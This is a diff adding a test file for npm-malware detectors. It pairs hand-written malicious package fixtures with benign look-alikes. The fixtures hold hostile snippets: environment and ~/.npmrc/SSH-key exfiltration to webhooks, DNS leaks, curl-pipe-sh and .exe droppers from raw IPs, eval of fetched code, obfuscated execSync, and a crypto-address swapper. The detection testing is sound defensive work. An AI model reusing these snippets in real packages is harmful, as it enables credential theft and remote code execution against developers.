@@ -1,0 +1,270 @@
+/**
+ * The behaviour detectors (exfiltration, remote-code, obfuscated-code, browser-payload, persistence)
+ * on hand-written packages shaped after public write-ups of npm malware, each beside a legitimate
+ * look-alike. Payloads are inert sketches: hosts are reserved or made up, nothing here was copied
+ * from a live sample.
+ */
+import { describe, expect, it } from 'vitest';
+import { browserPayloadDetector } from '../../src/detectors/browser-payload/index.js';
+import { exfiltration } from '../../src/detectors/exfiltration/index.js';
+import { obfuscatedCode } from '../../src/detectors/obfuscated-code/index.js';
+import { persistence } from '../../src/detectors/persistence/index.js';
+import { remoteCode } from '../../src/detectors/remote-code/index.js';
+import type { PackageDetector } from '../../src/detectors/types.js';
+import { analyzeJavaScript, assessObfuscation } from '../../src/analysis/javascript/index.js';
+import { levelForScore, scoreFindings } from '../../src/report/levels.js';
+import { factsFromFixture, type FixtureFile } from '../support/package-fixture.js';
+
+const detectors = [exfiltration, remoteCode, obfuscatedCode, browserPayloadDetector, persistence] as PackageDetector[];
+
+function scan(files: Record<string, FixtureFile>, manifest: Record<string, unknown> = {}) {
+  const facts = factsFromFixture({
+    name: 'pkg-under-test',
+    publisher: { name: 'someone', email: 'someone@example.com' },
+    versions: [{ version: '1.0.0', publishedAt: '2025-10-01T00:00:00.000Z', manifest: { description: 'x', ...manifest }, files }],
+  });
+  const results = detectors.map((d) => ({ id: d.meta.id, ...d.detect({ facts, options: d.meta.options.parse({}), now: new Date('2025-11-01') }) }));
+  const findings = results.flatMap((r) => r.findings.map((f) => ({ ...f, detector: r.id })));
+  const score = scoreFindings(findings.map((f) => f.weight));
+  return { findings, score, level: levelForScore(score), ids: findings.map((f) => `${f.detector}/${f.messageId}`) };
+}
+
+const postinstall = { scripts: { postinstall: 'node index.js' } };
+
+describe('exfiltration', () => {
+  it('environment serialised and POSTed to a chat webhook from postinstall is high', () => {
+    const r = scan({
+      'index.js': `const https = require('https');
+const payload = JSON.stringify({ vars: process.env });
+const req = https.request('https://discord.com/api/webhooks/000/xyz', { method: 'POST' });
+req.write(payload);
+req.end();
+`,
+    }, postinstall);
+    expect(r.ids).toContain('exfiltration/flow');
+    expect(['high', 'critical']).toContain(r.level);
+    const f = r.findings.find((x) => x.detector === 'exfiltration')!;
+    expect(f.evidence.source).toMatchObject({ line: 2 });
+    expect(f.evidence.sink).toMatchObject({ line: 3 });
+  });
+
+  it('host identity leaked as DNS labels at install is high', () => {
+    const r = scan({
+      'index.js': `const os = require('os');
+const dns = require('dns');
+const label = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex');
+dns.lookup(label + '.c0ffee.example.net', () => {});
+`,
+    }, postinstall);
+    expect(r.ids).toContain('exfiltration/flow');
+    expect(r.level).toBe('high');
+  });
+
+  it('~/.npmrc and ~/.ssh read and sent through a local helper from main reaches at least medium', () => {
+    const r = scan({
+      'index.js': `const fs = require('fs'), path = require('path'), os = require('os');
+const axios = require('axios');
+function ship(data) { return axios.post('https://hooks.slack.com/services/T000/B000/XXXX', { data }); }
+const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
+const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');
+ship(rc + key);
+`,
+    }, { main: 'index.js' });
+    expect(r.ids).toContain('exfiltration/flow');
+    expect(['medium', 'high', 'critical']).toContain(r.level);
+  });
+
+  it('release tooling reading ~/.npmrc to publish to the registry stays below medium', () => {
+    const r = scan({
+      'lib/publish.js': `const fs = require('fs'), os = require('os'), path = require('path');
+module.exports = async function publish(pkg) {
+  const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
+  const token = /_authToken=(.*)/.exec(rc)[1];
+  return fetch('https://registry.npmjs.org/' + pkg.name, { method: 'PUT', headers: { authorization: 'Bearer ' + token }, body: JSON.stringify(pkg) });
+};
+`,
+    }, { main: 'lib/publish.js' });
+    expect(['none', 'low']).toContain(r.level);
+  });
+
+  it('an SDK sending GITHUB_TOKEN to the GitHub API stays below medium', () => {
+    const r = scan({
+      'index.js': `exports.client = function client() {
+  const token = process.env.GITHUB_TOKEN;
+  return (path) => fetch('https://api.github.com' + path, { headers: { authorization: 'token ' + token } });
+};
+`,
+    });
+    expect(['none', 'low']).toContain(r.level);
+  });
+
+  it('an error reporter that sends the hostname to its own service stays below medium', () => {
+    const r = scan({
+      'index.js': `const os = require('os');
+const https = require('https');
+module.exports = function report(error) {
+  const body = JSON.stringify({ message: error.message, serverName: os.hostname() });
+  const req = https.request('https://ingest.errors.example.com/api/store', { method: 'POST' });
+  req.end(body);
+};
+`,
+    });
+    expect(['none', 'low']).toContain(r.level);
+  });
+
+  it('reading credentials without sending them is not a flow', () => {
+    const r = scan({
+      'index.js': `const fs = require('fs'), os = require('os');
+const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
+console.log(rc.includes('_authToken') ? 'logged in' : 'not logged in');
+`,
+    }, postinstall);
+    expect(r.ids).not.toContain('exfiltration/flow');
+  });
+});
+
+describe('remote-code', () => {
+  it('fetched text evaluated from the entry point is at least medium, from a raw IP high', () => {
+    const r = scan({
+      'index.js': `const axios = require('axios');
+axios.get('http://198.51.100.7/cfg').then((res) => { eval(res.data.x); });
+`,
+    });
+    expect(r.ids).toContain('remote-code/download');
+    expect(['medium', 'high', 'critical']).toContain(r.level);
+    const ip = scan({ 'index.js': `const axios = require('axios');\naxios.get('http://45.61.1.2/cfg').then((res) => { eval(res.data.x); });\n` });
+    expect(['high', 'critical']).toContain(ip.level);
+  });
+
+  it('follows promise chains and files written from a download, then required', () => {
+    const chained = scan({ 'index.js': "fetch('https://cdn.example.org/rt.js').then((r) => r.text()).then((src) => new Function('require', src)(require));\n" });
+    expect(chained.ids).toContain('remote-code/download');
+    const written = scan({
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
+const file = path.join(os.tmpdir(), 'x.js');
+fetch('https://cdn.example.org/x.js').then((r) => r.text()).then((js) => { fs.writeFileSync(file, js); require(file); });
+`,
+    });
+    expect(written.ids).toContain('remote-code/download');
+    expect(['medium', 'high', 'critical']).toContain(written.level);
+  });
+
+  it('an .exe downloaded over plain HTTP from a raw IP and run at install is high', () => {
+    const r = scan({
+      'install.js': `const https = require('http'), fs = require('fs'), os = require('os'), path = require('path');
+const { execFileSync } = require('child_process');
+const target = path.join(os.tmpdir(), 'svc.exe');
+https.get('http://45.61.1.2/svc.exe', (res) => {
+  const out = fs.createWriteStream(target);
+  res.pipe(out);
+  out.on('finish', () => execFileSync(target));
+});
+`,
+    }, { scripts: { postinstall: 'node install.js' } });
+    expect(r.ids).toContain('remote-code/download');
+    expect(r.level).toBe('high');
+  });
+
+  it('a prebuilt-binary installer fetching over HTTPS from a named host stays below medium', () => {
+    const r = scan({
+      'install.js': `const https = require('https'), fs = require('fs'), path = require('path');
+const { execFileSync } = require('child_process');
+const bin = path.join(__dirname, 'bin', 'tool');
+https.get('https://registry.npmjs.org/@tool/linux-x64/-/linux-x64-1.0.0.tgz', (res) => {
+  const out = fs.createWriteStream(bin);
+  res.pipe(out);
+  out.on('finish', () => { fs.chmodSync(bin, 0o755); execFileSync(bin, ['--version']); });
+});
+`,
+    }, { scripts: { postinstall: 'node install.js' } });
+    expect(['none', 'low']).toContain(r.level);
+  });
+
+  it('a base64 blob decoded into new Function is reported; a constant Function idiom is not', () => {
+    const blob = Buffer.from('console.log("inert sketch");'.repeat(3)).toString('base64');
+    const r = scan({ 'index.js': `const code = Buffer.from('${blob}', 'base64').toString();\nnew Function(code)();\n` });
+    expect(r.ids).toContain('remote-code/decode');
+    const idiom = scan({ 'index.js': `var g = Function('return this')();\nmodule.exports = g;\n` });
+    expect(idiom.ids).not.toContain('remote-code/decode');
+  });
+
+  it('a curl | sh dropper run from postinstall is at least medium', () => {
+    const r = scan({ 'setup.js': `require('child_process').exec('curl -fsSL http://203.0.113.5/s.sh | sh');\n` }, { scripts: { postinstall: 'node setup.js' } });
+    expect(r.ids).toContain('remote-code/dropper');
+    expect(['medium', 'high', 'critical']).toContain(r.level);
+  });
+});
+
+describe('obfuscated-code', () => {
+  const stringArray = ['child_process', 'execSync', 'hostname', 'https'].map((s) => `'${s}'`).join(',');
+  const obfuscated = `function _0x1a2b(){var _0x3c4d=[${stringArray}];_0x1a2b=function(){return _0x3c4d;};return _0x1a2b();}
+(function(_0x5e6f,_0x7a8b){var _0x9c0d=_0x5e6f();while(!![]){try{var _0x1e2f=parseInt(_0x3a4b(0x0))/0x1;if(_0x1e2f===_0x7a8b)break;else _0x9c0d['push'](_0x9c0d['shift']());}catch(_0x4f5a){_0x9c0d['push'](_0x9c0d['shift']());}}}(_0x1a2b,0x1));
+function _0x3a4b(_0x6b7c,_0x8d9e){var _0x2f3a=_0x1a2b();return _0x2f3a[_0x6b7c];}
+var _0x4b5c=require(_0x3a4b(0x0));_0x4b5c[_0x3a4b(0x1)]('id');
+`;
+
+  it('a javascript-obfuscator string array naming child_process, run at install, reaches medium', () => {
+    const r = scan({ 'index.js': obfuscated }, postinstall);
+    expect(r.ids).toContain('obfuscated-code/hiddenBehaviour');
+    expect(['medium', 'high', 'critical']).toContain(r.level);
+  });
+
+  it('Unicode identifier tables written as escapes are not obfuscation', () => {
+    const table = `"use strict";\nlet nonASCIIidentifierStartChars = "\\xaa\\xb5\\xba\\xc0-\\xd6\\xd8-\\xf6\\xf8-\\u02c1\\u02c6-\\u02d1\\u02e0-\\u02e4\\u02ec\\u02ee\\u0370-\\u0374\\u0376\\u0377\\u037a-\\u037d\\u037f\\u0386\\u0388-\\u038a\\u038c\\u038e-\\u03a1\\u03a3-\\u03f5\\u03f7-\\u0481";\nexports.re = new RegExp("[" + nonASCIIidentifierStartChars + "]");\n`;
+    expect(assessObfuscation(analyzeJavaScript(table)).obfuscated).toBe(false);
+    // ASCII written as escapes still is.
+    const ascii = `var a = "\\x72\\x65\\x71\\x75\\x69\\x72\\x65\\x20\\x63\\x68\\x69\\x6c\\x64";\nvar b = "\\x65\\x78\\x65\\x63\\x53\\x79\\x6e\\x63\\x28\\x27\\x69\\x64\\x27\\x29";\nmodule.exports = [a, b, "\\x68\\x6f\\x73\\x74\\x6e\\x61\\x6d\\x65\\x20\\x75\\x73\\x65\\x72\\x49\\x6e\\x66\\x6f\\x20\\x65\\x6e\\x76\\x20\\x64\\x75\\x6d\\x70\\x20\\x61\\x6e\\x64\\x20\\x6d\\x6f\\x72\\x65\\x20\\x74\\x65\\x78\\x74\\x20\\x68\\x65\\x72\\x65"];\n`;
+    expect(assessObfuscation(analyzeJavaScript(ascii)).obfuscated).toBe(true);
+  });
+});
+
+describe('browser-payload', () => {
+  const addresses = ['0x52908400098527886E0F7030069857D2E4169EE7', '0x8617E340B3D01FA5F11F306F4090FD50E238070D', '0xde709f2102306220921060314715629080e2fb77'];
+
+  it('XMLHttpRequest and fetch overrides beside a wallet-address table are high', () => {
+    const r = scan({
+      'dist/index.js': `const table = ${JSON.stringify(addresses)};
+const swap = (s) => s.replace(/0x[a-fA-F0-9]{40}/g, () => table[0]);
+const open = XMLHttpRequest.prototype.open;
+XMLHttpRequest.prototype.open = function (m, u) { return open.apply(this, [m, swap(u)]); };
+const f = window.fetch;
+window.fetch = (u, o) => f(u, o && o.body ? { ...o, body: swap(o.body) } : o);
+`,
+    }, { main: 'dist/index.js' });
+    expect(r.ids).toContain('browser-payload/swapper');
+    expect(['high', 'critical']).toContain(r.level);
+  });
+
+  it('a fetch polyfill that installs itself when missing is not reported', () => {
+    const r = scan({
+      'fetch.js': `function fetchPolyfill(input, init) { return new Promise(function (resolve) { var xhr = new XMLHttpRequest(); xhr.open('GET', input); xhr.onload = function () { resolve(xhr.responseText); }; xhr.send(init && init.body); }); }
+if (!self.fetch) { self.fetch = fetchPolyfill; }
+`,
+    }, { main: 'fetch.js' });
+    expect(r.findings).toHaveLength(0);
+  });
+});
+
+describe('persistence', () => {
+  it('writing a GitHub workflow beside a secret scanner, at install, is at least medium', () => {
+    const r = scan({
+      'bundle.js': `const fs = require('fs'); const { execSync } = require('child_process');
+const found = execSync('trufflehog filesystem . --json').toString();
+fs.mkdirSync('.github/workflows', { recursive: true });
+fs.writeFileSync('.github/workflows/ci-sync.yml', 'on: push');
+`,
+    }, postinstall);
+    expect(r.ids).toContain('persistence/write');
+    expect(r.ids).toContain('persistence/secretHunt');
+    expect(['medium', 'high', 'critical']).toContain(r.level);
+  });
+
+  it('a scaffolder writing a workflow from a function the user calls stays below medium', () => {
+    const r = scan({
+      'lib/init.js': `const fs = require('fs');
+exports.init = function init(dir) { fs.writeFileSync(dir + '/.github/workflows/ci.yml', 'on: push'); };
+`,
+    }, { main: 'lib/init.js' });
+    expect(['none', 'low']).toContain(r.level);
+  });
+});
